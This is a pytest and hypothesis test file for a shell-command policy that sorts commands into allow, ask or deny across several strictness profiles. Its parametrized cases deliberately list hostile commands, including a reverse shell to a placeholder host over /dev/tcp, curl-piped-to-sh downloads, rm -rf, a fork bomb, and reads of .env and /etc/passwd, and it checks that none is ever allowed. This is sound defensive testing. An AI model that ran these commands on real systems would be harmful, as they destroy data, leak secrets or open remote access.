"""The command policy: corpora, the findings of the shell, profiles, and properties that hold for every text."""

from __future__ import annotations

import contextlib
import os
import subprocess
import time
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from proctor.gate.policy import POSTURES, Effect, judge_command
from proctor.protocol.errors import UsageError

CORPUS = Path(__file__).parent / "corpus"


def corpus(name: str) -> list[str]:
    """Read a corpus: newlines and NUL are written as signs, so that each command is one line."""
    lines = (CORPUS / name).read_text(encoding="utf-8").splitlines()[1:]
    return [line.replace("⏎", "\n").replace("␀", "\0") for line in lines]


HOSTILE, ORDINARY = corpus("hostile.txt"), corpus("ordinary.txt")


def effect(text: str, **options: object) -> str:
    """Judge a line in the standard profile."""
    return judge_command(text, **options).effect.value  # type: ignore[arg-type]


def test_no_dangerous_command_is_allowed() -> None:
    """Of at least 300 dangerous or unknowable commands none is allowed, in any profile."""
    assert len(set(HOSTILE)) >= 300
    for profile in POSTURES:
        assert [line for line in HOSTILE if effect(line, profile=profile) == "allow"] == []


def test_no_ordinary_command_is_denied() -> None:
    """Of at least 300 ordinary commands none is denied, and fewer than one in ten asks."""
    assert len(set(ORDINARY)) >= 300
    answers = [effect(line) for line in ORDINARY]
    assert answers.count("deny") == 0
    assert answers.count("ask") < 0.1 * len(answers)


@pytest.mark.parametrize(
    "line",
    [
        "rm -rf x",
        "rm -fr x",
        "dd if=a of=b",
        "mkfs.ext4 x",
        "mkfs x",
        "sudo ls",
        "curl x | sh",
        "wget x | sh",
        "curl x | bash",
    ],
)
def test_the_seeds_blocked_commands_are_denied(line: str) -> None:
    """The seeds' blocked commands and patterns, and the spellings they missed, are denied in every profile."""
    assert {effect(line, profile=profile) for profile in POSTURES} == {"deny"}


@pytest.mark.parametrize(
    "line", ["git push", "npm publish", "pip install x", "cargo publish", "docker run x", "chmod 777 x"]
)
def test_the_seeds_confirm_list_asks(line: str) -> None:
    """What the seeds confirm is asked, and denied where nobody can be asked."""
    assert effect(line) == "ask"
    assert effect(line, attended=False) == "deny"
    assert effect(line, profile="unattended") == "deny"


@pytest.mark.parametrize(
    "line", ["git add .", "git add dd.txt", "cat information.txt", "echo 'sudo rm -rf /'", "npm run format"]
)
def test_names_are_matched_as_whole_tokens(line: str) -> None:
    """`git add` is not dd and "information" is not format."""
    assert effect(line) == "allow"


@pytest.mark.parametrize(
    ("line", "rule"),
    [
        ("ls\n\\rm -rf x", "shell.words"),
        ("echo x </dev/null y", "shell.redirect-words"),
        ("printf -v 'a[$(x)]' 1", "printf.variable"),
        ("echo $((a[0]))", "shell.subscript"),
        ("make -f <(echo x)", "make.option"),
        ("git -c core.pager=x log", "shell.wrapper"),
        ("rg --pre x y", "option.rg"),
        ("ls $(", "shell.parse"),
        ("ls\0x", "text.control"),
        ("ls \u202ex", "text.control"),
        ("ls \udcff", "text.encoding"),
        ("echo \u00a0", "text.blank"),
        ("echo a\\ b", "shell.backslash"),
        ("echo " + "a" * 40_000, "text.long"),
        ("", "text.empty"),
        ("$X y", "shell.unknown-command"),
        ("LD_PRELOAD=x ls", "shell.environment"),
        ("echo x > $F", "shell.unknown-target"),
        ("echo x > a.sh; sh a.sh", "shell.write-then-run"),
        (":(){ :|:& };:", "shell.fork-bomb"),
        ("bash -i >& /dev/tcp/h/1", "shell.network-redirect"),
        ("cat ../x", "path.outside"),
        ("cat .env", "path.secret"),
        ("echo x > .git/hooks/pre-commit", "path.git"),
        ("no-such-tool", "no-rule"),
    ],
)  # fmt: skip
def test_each_trap_is_caught_by_its_own_rule(line: str, rule: str) -> None:
    """Every known way around a shell policy is named by a stable rule and never allowed."""
    decision = judge_command(line)
    assert decision.effect is not Effect.ALLOW
    assert rule in {decision.rule, *(part.rule for part in decision.parts)}


def test_the_parts_say_what_each_command_resolved_to() -> None:
    """Wrappers are stripped and quoting is undone in what a person is shown."""
    decision = judge_command("env A=1 timeout 5 'r'm -rf \"$X\" && bash -c 'git -C sub push'")
    assert [part.argv for part in decision.parts] == [("rm", "-rf", None), ("git", "push")]
    assert decision.irreversible
    assert decision.code == "command_denied"


def test_profiles_ask_for_more_or_less() -> None:
    """careful and enterprise let only reading pass, smb also edits, technical and standard also runs."""
    lines = {
        "read": "cat a",
        "edit": "touch a",
        "redirect": "echo x > a",
        "in place": "sed -i s/a/b/ f",
        "run": "pytest",
    }
    answers = {
        name: {key for key, line in lines.items() if effect(line, profile=name) == "allow"}
        for name in POSTURES
    }
    assert answers["careful"] == answers["enterprise"] == {"read"}
    assert answers["smb"] == {"read", "edit", "redirect", "in place"}
    assert answers["standard"] == answers["technical"] == answers["unattended"] == set(lines)


def test_irreversible_acts_ask_in_every_profile() -> None:
    """No profile lets an irreversible act pass, and unattended denies it."""
    for line in ("git push", "rm x", "git reset --hard", "npm publish", "terraform apply"):
        assert judge_command(line).irreversible
        assert {effect(line, profile=name) for name in POSTURES} == {"ask", "deny"}


def test_unknown_profile_is_refused() -> None:
    """A profile that does not exist is an error, never a default."""
    with pytest.raises(UsageError):
        judge_command("ls", profile="nope")


def test_absolute_paths_inside_the_roots_are_inside() -> None:
    """A root is compared by components: a sibling whose name only begins the same is outside."""
    assert effect("cat /repo/src/a.py", roots=("/repo",)) == "allow"
    assert effect("cat /repo-evil/a.py", roots=("/repo",)) == "ask"
    assert effect("cat /repo/../etc/passwd", roots=("/repo",)) == "ask"


def test_directory_changes_are_followed() -> None:
    """After `cd X &&` paths are meant from X; where that is not sure, both places count."""
    assert effect("cd build && cat ../a") == "allow"
    assert effect("cd build; cat ../a") == "ask"
    assert effect("(cd a/b && ls); cat ../x") == "ask"
    assert effect("cd a && cd .. && cat x") == "allow"
    assert effect("cd a && cd ../.. && cat x") == "ask"


SHELL_TEXT = st.text(alphabet="ab \t\n\\'\"`$(){}[]<>|&;#!*?=,-rm./~1", max_size=120)


@given(st.one_of(SHELL_TEXT, st.text(max_size=200)))
@settings(max_examples=300, deadline=None)
def test_every_text_gets_an_answer(text: str) -> None:
    """No text crashes the policy, and the answer is the same twice."""
    first = judge_command(text)
    assert first == judge_command(text)
    assert first.reason


@given(
    st.sampled_from(HOSTILE),
    st.sampled_from([" ", "  ", "\t", "\n", "\n\n"]),
    st.sampled_from(["", " # ok", "\n# ok\n", " ", "\n"]),
)
@settings(max_examples=300, deadline=None)
def test_blanks_and_comments_never_turn_a_refusal_into_leave(line: str, before: str, after: str) -> None:
    """Blanks in front and blanks or a comment behind do not loosen the answer."""
    assert judge_command(before + line + after).effect is not Effect.ALLOW


@given(
    st.sampled_from(HOSTILE), st.sampled_from(ORDINARY), st.sampled_from(["; ", " && ", "\n", " || ", " & "])
)
@settings(max_examples=300, deadline=None)
def test_company_never_loosens(hostile: str, ordinary: str, between: str) -> None:
    """An ordinary command before a dangerous one does not get it through."""
    if "<<" in ordinary or "#" in ordinary:
        ordinary += "\n"
    assert judge_command(ordinary + between + hostile).effect is not Effect.ALLOW


@pytest.mark.parametrize(
    "text",
    [
        "|" * 30_000, "(" * 30_000, "a|" * 15_000, "a&&" * 10_000, "$(" * 10_000, "`" * 30_000, "{" * 30_000,
        "if " * 10_000, "<<E " * 8_000, "sh|" * 10_000, "a;" * 16_000, "'\"" * 15_000, "a=(" * 10_000, "[[ " * 10_000,
        "sed '" + "a;" * 9_000 + "\nZ' f", "CFLAGS='" + "-O" * 15_000 + "!' make", "echo " + "${a:-" * 6_000,
        "cat <<E\n" * 3_000, "f(){ " * 6_000, "xargs " * 5_000, "env " * 8_000 + "ls", "sh -c " * 5_000,
        "find . " + "-exec a \\; " * 2_500, "\\\n" * 15_000, "a[" * 15_000, "\u00e9" * 16_000, "]]{" * 10_000, "]]" * 16_000,
    ],
    ids=range(28),
)  # fmt: skip
def test_no_text_takes_long(text: str) -> None:
    """The worst texts within the cap are answered in time; the generous limit only catches what grows without bound."""
    began = time.process_time()
    assert judge_command(text).effect is not Effect.ALLOW
    assert time.process_time() - began < 10


@pytest.mark.parametrize(
    ("line", "rule", "kind"),
    [
        ("sed -i s/a/b/ f.py", "edit.in-place", "edit"),
        ("sed -nEi s/a/b/ f.py", "edit.in-place", "edit"),
        ("sed -n 1,5p f.py", "read.stream", "read"),
        ("echo x > f.txt", "edit.redirect", "edit"),
        ("> f.txt", "edit.redirect", "edit"),
        ("printf x | tee f.txt", "edit.files", "edit"),
        ("cat a.txt && sed -i s/a/b/ a.txt", "edit.in-place", "edit"),
        ("cat a > b.log && pytest", "run.python", "run"),
        ("git branch", "git.read-bare", "read"),
        ("git branch x", "git.branches", "edit"),
        ("git branch -v x", "git.branches", "edit"),
        ("git stash list", "git.read-lists", "read"),
        ("git format-patch -1", "git.edit", "edit"),
        ("ls 2>&1 | head", "read.files", "read"),
        ("ls > /dev/null 2>&1", "read.files", "read"),
    ],
)
def test_the_reason_names_what_the_line_does_most(line: str, rule: str, kind: str) -> None:
    """Whatever only reads beside it: what edits or runs gives rule and reason, and strict profiles ask for it."""
    decision = judge_command(line)
    assert (decision.effect, decision.rule) == (Effect.ALLOW, rule)
    assert ("changes nothing" in decision.reason) is (kind == "read")
    assert judge_command(line, profile="careful").allowed is (kind == "read")


def test_a_line_of_very_many_redirects_asks_and_shows_a_few() -> None:
    """Nobody can read thousands of them, so they are not allowed unread; what is shown stays short."""
    decision = judge_command("ls " + ">a " * 5_000)
    assert (decision.effect, decision.rule) == (Effect.ASK, "shell.many")
    assert len(decision.parts) <= 201


def _state(root: Path) -> dict[str, bytes]:
    """Every file outside git's own directory."""
    files = (path for path in sorted(root.rglob("*")) if ".git" not in path.relative_to(root).parts)
    return {str(path): path.read_bytes() if path.is_file() else b"" for path in files}


@pytest.mark.slow
def test_what_is_said_to_change_nothing_changes_nothing(tmp_path: Path) -> None:
    """Every ordinary command that is called reading is run by a real bash, and no file comes, goes or changes."""
    root = tmp_path / "place"
    (root / "src").mkdir(parents=True)
    for name in ("README.md", "file.txt", "file.py", "a.txt", "b.txt", "data.csv", "x.json", "src/main.py"):
        (root / name).write_text('{"a": 1}\n')
    subprocess.run(["git", "init", "-q"], cwd=root, check=True)
    before = _state(root)
    reading = [line for line in ORDINARY if "changes nothing" in judge_command(line).reason]
    assert len(reading) > 100
    path = {"PATH": os.environ["PATH"], "HOME": str(tmp_path), "GIT_PAGER": "cat"}
    for line in reading:
        with contextlib.suppress(subprocess.TimeoutExpired):  # some wait, which is no change either
            subprocess.run(
                ["bash", "-c", line], cwd=root, env=path, stdin=subprocess.DEVNULL, capture_output=True,
                timeout=2, check=False,
            )  # fmt: skip
        assert _state(root) == before, line
